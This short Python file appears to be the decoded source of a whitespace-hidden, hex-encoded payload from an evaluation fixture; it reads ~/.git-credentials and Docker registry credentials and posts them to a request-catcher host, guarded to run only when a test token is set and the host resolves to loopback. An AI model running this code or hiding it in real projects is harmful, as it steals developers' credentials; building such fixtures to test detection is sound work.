# Clear source of the code malicious/whitespace-hidden hides (hex encoded)
# at the far right of an import line.  Posts ~/.git-credentials and the
# Docker registry credentials to a request catcher.  Acts only inside the
# evaluation: SP_TOKEN set, the catcher host resolving to loopback.
import os, socket, urllib.request
h = os.environ.get("SP_CATCHER_HOST")
if os.environ.get("SP_TOKEN") and h and socket.gethostbyname(h).startswith("127."):
    d = b""
    for n in ("~/.git-credentials", "~/.docker/config.json"):
        try:
            d += open(os.path.expanduser(n), "rb").read()
        except OSError:
            pass
    try:
        urllib.request.urlopen("http://%s:%s/c4f1a7" % (h, os.environ.get("SP_HTTP_PORT", "80")), d, 10).read()
    except OSError:
        pass
